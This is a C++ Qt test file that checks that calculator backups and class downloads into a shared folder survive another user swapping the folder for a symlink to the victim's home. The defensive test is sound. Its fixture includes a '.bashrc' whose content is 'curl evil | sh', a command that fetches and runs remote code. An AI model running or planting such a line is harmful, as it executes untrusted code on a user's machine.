// Backups and a class's downloads into a shared folder, where another user
// renames the folder just made and puts a link to the first user's home in
// its place while the calculator is still sending: every file, the manifest
// included, goes into the folder made, nothing into the home, and the outcome
// does not name a folder that no longer holds the files.
#include "BackupManifest.h"
#include "BackupWriter.h"
#include "CVivuRuza.h"
#include "CalcSimulator.h"
#include "FolderHandle.h"
#include "LocalFiles.h"
#include "TransferRunner.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QtTest>

#include <algorithm>

namespace {
using Files = QList<QPair<QString, QByteArray>>;

// A file named as a shell's start-up file among them: what the other user
// would like to see land in the home.
const Files onCalc { { QStringLiteral("MAIN.PY"), QByteArray("print(1)\n") },
    { QStringLiteral(".bashrc"), QByteArray("curl evil | sh\n") },
    { QStringLiteral("DATA.CSV"), QByteArray("1,2,3\n") } };

// The only folder in parent that is not a link: the folder made, wherever
// the other user moved it.
QString realFolderIn(const QString &parent)
{
    const QFileInfoList found = QDir(parent).entryInfoList(
        QDir::Dirs | QDir::NoSymLinks | QDir::Hidden | QDir::NoDotAndDotDot);
    return found.size() == 1 ? found.first().filePath() : QString();
}
} // namespace

class TestSharedFolder : public QObject
{
    Q_OBJECT
private slots:
    void swappedWhileWriting_data();
    void swappedWhileWriting();
    void chosenFolderReplaced();
};

void TestSharedFolder::swappedWhileWriting_data()
{
    QTest::addColumn<bool>("backup");
    QTest::addColumn<bool>("swap");
    QTest::newRow("backup, left alone") << true << false;
    QTest::newRow("backup, swapped") << true << true;
    QTest::newRow("class download, left alone") << false << false;
    QTest::newRow("class download, swapped") << false << true;
}

void TestSharedFolder::swappedWhileWriting()
{
    QFETCH(bool, backup);
    QFETCH(bool, swap);
    QTemporaryDir shared;
    QTemporaryDir home;
    CalcSimulator sim;
    sim.setName(QStringLiteral("Desk 7"));
    sim.setFiles(onCalc);
    QVERIFY(sim.start());
    CVivuRuza link(sim.portPath());
    QVERIFY(link.portErrorText().isEmpty());

    QString made;
    QStringList problems;
    TransferEvents events;
    events.problem = [&problems](const QString &text, const QString &) { problems.append(text); };
    // The other user's move, once the calculator is sending the first file.
    events.fileStarted = [&](const QString &, int number, int) {
        if (!swap || number != 1)
            return;
        made = realFolderIn(shared.path());
        QVERIFY(!made.isEmpty());
        QVERIFY(QDir().rename(made, shared.filePath(QStringLiteral("moved"))));
        QVERIFY(QFile::link(home.path(), made));
    };

    bool finished = false;
    QString told;
    if (backup) {
        BackupWriter writer(link, events);
        finished = writer.run(shared.path(), sim.portPath());
        told = writer.folder();
    } else {
        const FolderHandle folder = FolderHandle::makeNew(shared.path(), QStringLiteral("Desk 7"));
        QVERIFY(folder.isValid());
        TransferPlan plan(TransferPlan::Direction::Download, folder.path());
        plan.setFolderHandle(folder);
        for (const auto &file : onCalc)
            plan.addDownload(file.first, file.second.size());
        TransferRunner runner(link, events);
        const QList<TransferOutcome> outcomes = runner.run(plan);
        finished = std::all_of(outcomes.cbegin(), outcomes.cend(), [](const TransferOutcome &o) {
            return o.status == TransferOutcome::Status::Done;
        }) && folder.isStillAt();
        told = folder.isStillAt() ? folder.path() : QString();
    }

    QCOMPARE(entriesOf(home.path()), QStringList());
    const QString holder
        = swap ? shared.filePath(QStringLiteral("moved")) : realFolderIn(shared.path());
    QStringList expected { QStringLiteral(".bashrc"), QStringLiteral("DATA.CSV"),
        QStringLiteral("MAIN.PY") };
    if (backup)
        expected.append(QLatin1String(BackupManifest::fileName));
    expected.sort();
    QCOMPARE(entriesOf(holder), expected);
    for (const auto &file : onCalc)
        QCOMPARE(readLocal(holder + QLatin1Char('/') + file.first), file.second);
    QCOMPARE(finished, !swap);
    if (swap) {
        // Nothing says the files are in the folder that took the name.
        QVERIFY(told.isEmpty());
        if (backup)
            QVERIFY2(
                problems.join(QLatin1Char('\n'))
                    .contains(QStringLiteral("was moved or replaced while the backup was written")),
                qPrintable(problems.join(QLatin1Char('\n'))));
    } else {
        QCOMPARE(told, holder);
        QVERIFY2(!problems.join(QLatin1Char('\n')).contains(QStringLiteral("moved or replaced")),
            qPrintable(problems.join(QLatin1Char('\n'))));
    }
}

// A folder chosen for backups that was replaced since (another owner, or
// made anew) takes nothing: no folder is made in it.
void TestSharedFolder::chosenFolderReplaced()
{
    QTemporaryDir shared;
    const QString chosen = shared.filePath(QStringLiteral("class"));
    QVERIFY(QDir().mkdir(chosen));
    const QString identity = FolderHandle::identityOf(chosen);
    QVERIFY(QDir().rename(chosen, shared.filePath(QStringLiteral("old"))));
    QVERIFY(QDir().mkdir(chosen));

    CalcSimulator sim;
    sim.setFiles(onCalc);
    QVERIFY(sim.start());
    CVivuRuza link(sim.portPath());
    QStringList problems;
    TransferEvents events;
    events.problem = [&problems](const QString &text, const QString &) { problems.append(text); };
    BackupWriter writer(link, events);
    writer.setExpectedParent(identity);
    QVERIFY(!writer.run(chosen, sim.portPath()));
    QCOMPARE(problems, QStringList { BackupWriter::replacedParentText(chosen) });
    QVERIFY(writer.folder().isEmpty());
    QCOMPARE(entriesOf(chosen), QStringList());

    // The folder as chosen takes the backup.
    BackupWriter again(link);
    again.setExpectedParent(FolderHandle::identityOf(chosen));
    QVERIFY(again.run(chosen, sim.portPath()));
    QCOMPARE(entriesOf(chosen).size(), 1);
}

QTEST_GUILESS_MAIN(TestSharedFolder)
#include "tst_sharedfolder.moc"
